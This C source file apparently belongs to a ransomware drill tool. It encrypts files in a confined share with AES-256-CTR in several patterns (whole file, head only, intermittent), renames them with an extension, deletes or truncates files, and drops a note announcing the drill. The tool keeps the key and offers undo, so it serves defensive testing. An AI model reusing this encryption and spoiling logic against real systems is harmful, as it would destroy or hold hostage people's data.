/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "drill/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <openssl/evp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "base/clock.h"
#include "base/err.h"
#include "base/fd.h"
#include "base/i18n.h"
#include "base/mem.h"
#include "base/path.h"
#include "drill/attack_list.h"
#include "drill/confine.h"

static bool covers_all(uint64_t offset)
{
    (void)offset;
    return true;
}

static bool covers_head(uint64_t offset)
{
    return offset < 4096;
}

/* 1 MiB on, 1 MiB off. */
static bool covers_every_other(uint64_t offset)
{
    return (offset >> 20) % 2 == 0;
}

const struct attack_kind attack_kinds[] = {
    {"in-place", attack_spoil_in_place, covers_all},
    {"head", attack_spoil_head, covers_head},
    {"intermittent", attack_spoil_intermittent, covers_every_other},
    {"write-new-then-delete", attack_spoil_write_new, covers_all},
    {"rename-first", attack_spoil_rename_first, covers_all},
    {"delete", attack_spoil_delete, NULL},
    {"truncate", attack_spoil_truncate, NULL},
    {NULL, NULL, NULL},
};

const struct attack_kind *attack_find(const char *name)
{
    for (const struct attack_kind *k = attack_kinds; k->name; k++)
        if (strcmp(k->name, name) == 0)
            return k;
    return NULL;
}

void attack_cipher(const uint8_t key[32], const char *path, uint64_t offset, uint8_t *bytes, size_t length)
{
    uint8_t iv[32];
    int done;
    EVP_Digest(path, strlen(path), iv, NULL, EVP_sha256(), NULL);
    /* The counter is the low half of the block; a file never has 2^64 blocks, so the carry stays in it. */
    uint64_t counter = offset / 16;
    for (size_t i = 0; i < 8; i++)
        iv[8 + i] = (uint8_t)(counter >> (56 - 8 * i));
    EVP_CIPHER_CTX *aes = EVP_CIPHER_CTX_new();
    EVP_EncryptInit_ex(aes, EVP_aes_256_ctr(), NULL, key, iv);
    EVP_EncryptUpdate(aes, bytes, &done, bytes, (int)length);
    EVP_CIPHER_CTX_free(aes);
}

static uint32_t names_of(const struct attack *a, uint64_t inode)
{
    for (size_t i = 0; i < a->count; i++)
        if (a->targets[i].inode == inode)
            return a->targets[i].names;
    return 1;
}

int attack_open(const struct attack *a, const char *path, int flags)
{
    struct open_how how = {
        .flags = (unsigned)(flags | O_CLOEXEC | O_NOFOLLOW),
        .mode = flags & O_CREAT ? 0664 : 0,
        .resolve = RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS | RESOLVE_NO_MAGICLINKS | RESOLVE_NO_XDEV,
    };
    int fd = (int)syscall(SYS_openat2, a->share, path, &how, sizeof how);
    struct stat st;
    if (fd < 0)
        return -errno;
    if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) &&
        (st.st_nlink <= 1 || st.st_nlink <= names_of(a, st.st_ino)))
        return fd;
    close(fd);
    return -EPERM;
}

int attack_encrypt(const struct attack *a, struct ledger_row *row, int from, int to, bool (*covers)(uint64_t))
{
    uint8_t room[ATTACK_STREAM];
    uint64_t offset = 0;
    ssize_t got;
    while ((got = pread(from, room, sizeof room, (off_t)offset)) > 0) {
        size_t length = (size_t)got;
        if (covers(offset) && !covers(offset + length - 1)) /* the head ends inside */
            while (!covers(offset + length - 1))
                length--;
        bool dark = covers(offset);
        if (dark)
            attack_cipher(a->key, row->path, offset, room, length);
        if ((dark || from != to) && pwrite(to, room, length, (off_t)offset) != (ssize_t)length)
            return -errno;
        if (dark && !row->spoiled_ns && from == to)
            row->spoiled_ns = ledger_now();
        offset += length;
        atomic_store(&row->bytes, offset);
        if (from == to && covers == covers_head)
            break;
    }
    return got < 0 ? -errno : 0;
}

int attack_rename(const struct attack *a, struct ledger_row *row)
{
    if (!*a->options->extension)
        return 0;
    const char *name;
    int parent FD_AUTO = path_open_parent(a->share, row->path, &name);
    if (parent < 0)
        return -EIO;
    char *to = mem_printf("%s%s", name, a->options->extension);
    int code = renameat(parent, name, parent, to) < 0 ? -errno : 0;
    free(to);
    if (code == 0) {
        row->renamed_ns = ledger_now();
        atomic_store(&row->stage, LEDGER_RENAMED);
    }
    return code;
}

/* The note in the folder of `path`, unless there is one. */
static void drop_note(struct attack *a, const char *path, int worker)
{
    static const char text[] = "All your files are encrypted.\n\n"
                               "This is a drill: nobody asks for money. The key lies beside the share;\n"
                               "'beffroi-drill undo' gives every file back.\n";
    const char *slash = strrchr(path, '/');
    char *note = mem_printf("%.*s%s", slash ? (int)(slash - path + 1) : 0, path, ATTACK_NOTE);
    int fd = attack_open(a, note, O_WRONLY | O_CREAT | O_EXCL);
    struct ledger_row *row = fd >= 0 ? ledger_begin(a->ledger, note, worker) : NULL;
    if (row) {
        row->note = 1;
        if (write(fd, text, sizeof text - 1) < 0)
            row->error = errno;
        row->spoiled_ns = ledger_now();
        atomic_store(&row->stage, LEDGER_SPOILED);
    }
    if (fd >= 0)
        close(fd);
    free(note);
}

static void work(struct attack *a, const struct attack_kind *kind, int worker)
{
    const int64_t pause =
        a->options->per_minute ? 60 * NS_PER_SECOND * a->options->workers / a->options->per_minute : 0;
    uint32_t at;
    while ((at = atomic_fetch_add(&a->ledger->next, 1)) < a->count) {
        const char *path = a->targets[at].path;
        struct ledger_row *row = ledger_begin(a->ledger, path, worker);
        if (!row)
            continue;
        int code = kind->spoil(a, row);
        if (code < 0) {
            row->error = -code;
            if (!row->spoiled_ns)
                atomic_store(&row->stage, LEDGER_REFUSED);
        } else if (a->options->notes) {
            drop_note(a, path, worker);
        }
        if (pause) {
            const struct timespec t = {pause / NS_PER_SECOND, pause % NS_PER_SECOND};
            nanosleep(&t, NULL);
        }
    }
}

static int give_up(struct ledger *ledger)
{
    snprintf(ledger->reason, sizeof ledger->reason, "%s", err_text());
    atomic_store(&ledger->failed, 1);
    atomic_store(&ledger->finished, 1);
    return 1;
}

/* Process 1 inside the walls. */
static int run_inside(struct attack *a, const struct attack_kind *kind)
{
    int code = attack_list(a);
    if (code < 0)
        return give_up(a->ledger);
    atomic_store(&a->ledger->ready, 1);
    for (int worker = 1; worker < a->options->workers; worker++) {
        pid_t pid = fork();
        if (pid == 0) {
            work(a, kind, worker);
            _exit(0);
        }
    }
    work(a, kind, 0);
    while (wait(NULL) > 0 || errno == EINTR)
        ;
    atomic_store(&a->ledger->finished, 1);
    return 0;
}

int attack_start(const char *share_path, const struct attack_options *options, struct ledger *ledger)
{
    const struct attack_kind *kind = attack_find(options->kind);
    if (!kind)
        return err_set(ERR_INVALID, _("there is no simulator named %s"), options->kind);
    struct yard *yard;
    int code = yard_open(share_path, &yard);
    if (code < 0)
        return code;
    struct confine walls = {
        .yard = yard, .writable = true, .netns = -1, .uid = options->uid, .gid = options->gid};
    code = confine_note(&walls);
    snprintf(ledger->attack, sizeof ledger->attack, "%s", kind->name);
    snprintf(ledger->extension, sizeof ledger->extension, "%s", options->extension);
    pid_t pid = code < 0 ? -1 : fork();
    if (pid == 0) {
        struct attack a = {.options = options, .ledger = ledger, .share = -1};
        memcpy(a.key, yard->key, sizeof a.key);
        umask(002);
        if (confine_enter(&walls, &a.share) < 0)
            _exit(give_up(ledger));
        _exit(run_inside(&a, kind));
    }
    yard_free(yard);
    if (code == 0 && pid < 0)
        code = err_sys(_("cannot start a process"));
    return code < 0 ? code : pid;
}
